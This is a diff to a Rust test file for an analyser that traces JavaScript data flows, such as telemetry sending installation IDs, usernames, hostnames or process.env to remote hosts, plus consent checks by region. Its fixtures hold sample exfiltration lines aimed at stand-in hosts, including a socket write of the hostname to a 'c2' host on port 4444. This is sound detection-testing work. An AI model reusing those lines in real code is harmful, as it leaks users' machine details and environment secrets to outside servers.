@@ -1476,9 +1476,8 @@ fn a_network_commands_options_are_not_sent() {
 fn fields_of_an_object_a_function_returns_stay_apart() {
     // amp's service container: one field holds an index of the working directory, another the
     // secret store whose key authenticates requests, a third the settings with the server URL.
-    let src = "class Fuzzy { constructor(root) { this.root = root; } }
-        function makeServices(opts) {
-          const fuzzy = new Fuzzy(process.cwd());
+    let src = "function makeServices(opts) {
+          const fuzzy = { root: process.cwd(), close() {} };
           const base = { fuzzyServer: fuzzy, secretStorage: opts.storage, configService: opts.config };
           return { ...base, async dispose() { fuzzy.close(); } };
         }
@@ -1603,7 +1602,10 @@ fn a_value_only_named_for_the_country_is_a_hint() {
     assert_eq!(g.len(), 1, "{g:#?}");
     assert_eq!(g[0].source, Kinds::of(DataKind::NamedCountry));
     assert!(g[0].effects.contains(&Effect::Consent), "{g:#?}");
-    assert!(g[0].steps[0].what.contains("no region source was traced"), "{g:#?}");
+    assert!(
+        g[0].steps[0].what.contains("no region source was traced"),
+        "{g:#?}"
+    );
     // The same list choosing a currency is no consent decision (a shop's shape).
     let g = guards_of(
         r#"const EU_COUNTRIES = ["AT","BE","BG","HR","CY","CZ","DK","EE","FI","FR","DE","GR","HU","IE","IT","LV","LT","LU","MT","NL","PL","PT","RO","SK","SI","ES","SE"];
@@ -1614,7 +1616,10 @@ fn a_value_only_named_for_the_country_is_a_hint() {
         }"#,
     );
     assert!(!g.is_empty(), "{g:#?}");
-    assert!(g.iter().all(|g| !g.effects.contains(&Effect::Consent)), "{g:#?}");
+    assert!(
+        g.iter().all(|g| !g.effects.contains(&Effect::Consent)),
+        "{g:#?}"
+    );
     // A region source wins over the name, and names that are not one country say nothing.
     let g = guards_of(
         r#"const countryCode = Intl.DateTimeFormat().resolvedOptions().timeZone;
@@ -1642,7 +1647,10 @@ fn a_privacy_law_chosen_by_region_is_consent_by_jurisdiction() {
     // The rest after `return "LGPD"` is what everyone else gets, not a finding of its own.
     assert_eq!(g.len(), 2, "{g:#?}");
     assert!(g.iter().all(|g| !g.outside), "{g:#?}");
-    assert!(g.iter().all(|g| g.effects == vec![Effect::Consent]), "{g:#?}");
+    assert!(
+        g.iter().all(|g| g.effects == vec![Effect::Consent]),
+        "{g:#?}"
+    );
     assert_eq!(g[0].countries, vec!["BR"]);
     // `cc === "CA" && quebec` being false says nothing about CA: the rest of the function is
     // not "outside CA".
@@ -1663,7 +1671,11 @@ fn a_region_variant_fixed_at_build_time_is_said_to_be_inert() {
         if ("production" === "cn") console.log("never a region word");"#,
     );
     assert_eq!(g.len(), 2, "{g:#?}");
-    assert!(g.iter().all(|g| g.source == Kinds::of(DataKind::BuildVariant)), "{g:#?}");
+    assert!(
+        g.iter()
+            .all(|g| g.source == Kinds::of(DataKind::BuildVariant)),
+        "{g:#?}"
+    );
     assert!(g.iter().all(|g| g.countries == vec!["CN"]), "{g:#?}");
     assert!(g[0].steps[0].what.contains("REGION = \"global\""), "{g:#?}");
     assert!(g[0].steps[0].what.contains("another variant"), "{g:#?}");
@@ -1703,7 +1715,12 @@ fn a_zone_to_country_table_and_a_map_of_codes_are_region_data() {
     );
     assert_eq!(g.len(), 3, "{g:#?}");
     assert_eq!(g[0].countries, vec!["RU"]);
-    assert!(g[0].steps.iter().any(|s| s.what.contains("looks it up in the table")), "{g:#?}");
+    assert!(
+        g[0].steps
+            .iter()
+            .any(|s| s.what.contains("looks it up in the table")),
+        "{g:#?}"
+    );
     assert_eq!(g[1].countries, vec!["BY", "RU"]);
     assert_eq!(g[2].countries, vec!["CN"]);
     // A table looked up with something that is not region data gives nothing.
@@ -1712,4 +1729,111 @@ fn a_zone_to_country_table_and_a_map_of_codes_are_region_data() {
         export function f(s) { if (statusToCode[s.status] === "RU") console.log("x"); }"#,
     );
     assert!(g.is_empty(), "{g:#?}");
+}
+
+#[test]
+fn data_kept_on_this_reaches_the_methods_that_send_it() {
+    // qwen-code's QwenLogger: the constructor keeps an installation id on `this`, a method
+    // builds the payload from it and another sends the payload.
+    let pos = run("const fs = require('fs'); const { randomUUID } = require('crypto');
+        class InstallationManager {
+          path() { return Storage.getInstallationIdPath(); }
+          read() { const p = this.path(); return fs.existsSync(p) ? fs.readFileSync(p, 'utf-8').trim() : null; }
+          write(id) { const p = this.path(); atomicWriteFileSync(p, id, { encoding: 'utf-8' }); }
+          getInstallationId() {
+            let id = this.read();
+            if (!id) { id = randomUUID(); this.write(id); }
+            return id;
+          }
+        }
+        var Logger = class _Logger {
+          events = [];
+          constructor(config) {
+            this.config = config;
+            this.installationManager = new InstallationManager();
+            this.userId = this.generateUserId();
+          }
+          generateUserId() { return `user-${this.installationManager.getInstallationId() ?? 'unknown'}`; }
+          enqueue(event) { this.events.push(event); }
+          payload() { return { user: { id: this.userId }, events: this.events }; }
+          async flush() {
+            const body = JSON.stringify(await this.payload());
+            const req = https.request({ hostname: 'rum.example.top', method: 'POST' }, () => {});
+            req.end(body);
+          }
+        };
+        const https = require('https');");
+    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+    assert!(
+        pos.flows[0].kinds.contains(DataKind::InstallationId),
+        "{:#?}",
+        pos.flows
+    );
+    // Fields stay apart: the host name kept on `this` is not in a payload that sends
+    // another field, and `this` in a plain function is not the class's.
+    let neg = run("const os = require('os');
+        class Client {
+          constructor() { this.host = os.hostname(); this.version = '1.0'; }
+          report() { fetch('https://t.example.top/v', { method: 'POST', body: JSON.stringify({ v: this.version }) }); }
+          later() { setTimeout(function () { fetch('https://t.example.top/h', { method: 'POST', body: this.host }); }); }
+        }");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    // A subclass's method reads what the base class's constructor kept; a field of an
+    // instance is read by name outside the class too.
+    let base = run("const os = require('os');
+        class Base { constructor() { this.who = os.userInfo().username; this.host = os.hostname(); } }
+        class Child extends Base { send() { fetch('https://t.example.top/b', { method: 'POST', body: this.who }); } }
+        new Child().send();
+        const c = new Child(); navigator.sendBeacon('https://t.example.top/c', c.host);");
+    assert_eq!(base.flows.len(), 2, "{:#?}", base.flows);
+    assert!(base.flows[0].kinds.contains(DataKind::Username));
+    assert_eq!(base.flows[1].kinds, Kinds::of(DataKind::Hostname));
+}
+
+#[test]
+fn what_goes_to_a_local_socket_stays_on_the_machine() {
+    // claude-code hands its daemon the session's environment over a Unix socket.
+    let local = run("const net = require('net');
+        function claim(sockPath, frame) { const s = net.connect(sockPath); s.end(JSON.stringify({ env: { ...process.env }, frame })); }
+        const p = net.createConnection({ path: '/tmp/d.sock' }); p.write(JSON.stringify(process.env));
+        const q = net.connect(pipeName); q.write(os.hostname());");
+    assert!(local.flows.is_empty(), "{:#?}", local.flows);
+    let remote = run("const net = require('net'); const os = require('os');
+        const s = net.connect(4444, 'c2.example.top'); s.write(os.hostname());");
+    assert_eq!(remote.flows.len(), 1, "{:#?}", remote.flows);
+}
+
+#[test]
+fn a_method_of_the_instance_is_no_global() {
+    // `this.request(…)` in a class is its own method, not the `request` package.
+    let f = run("class Query { constructor(o) { this.options = o; }
+          init() { const g = { env: { ...process.env } }; return this.request(g); } }");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    let top = run("const g = { env: { ...process.env } }; request.post({ url: 'https://t.example.top', json: g });");
+    assert_eq!(top.flows.len(), 1, "{:#?}", top.flows);
+}
+
+#[test]
+fn a_helper_made_of_its_arguments_carries_each_calls_own() {
+    // gemini-cli's safeJsonStringify serves the telemetry logger and a response recorder.
+    let src = "const os = require('os');
+        function safeJsonStringify(obj, space) {
+          const seen = new WeakSet();
+          return JSON.stringify(obj, (k, v) => { if (typeof v === 'object' && v !== null) { if (seen.has(v)) return '[Circular]'; seen.add(v); } return v; }, space);
+        }
+        fs.writeFileSync('/tmp/rec.json', safeJsonStringify({ host: os.hostname() }));
+        fetch('https://t.example.top/log', { method: 'POST', body: safeJsonStringify({ event: 'start' }) });
+        SEND";
+    let neg = run(&src.replace("SEND", ""));
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    let pos = run(&src.replace(
+        "SEND",
+        "fetch('https://t.example.top/h', { method: 'POST', body: safeJsonStringify({ h: os.hostname() }) });",
+    ));
+    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+    // A helper that reads something itself keeps the ordinary model.
+    let reads = run("const os = require('os');
+        function withHost(o) { return JSON.stringify({ ...o, host: os.hostname() }); }
+        fetch('https://t.example.top/log', { method: 'POST', body: withHost({ event: 'start' }) });");
+    assert_eq!(reads.flows.len(), 1, "{:#?}", reads.flows);
 }
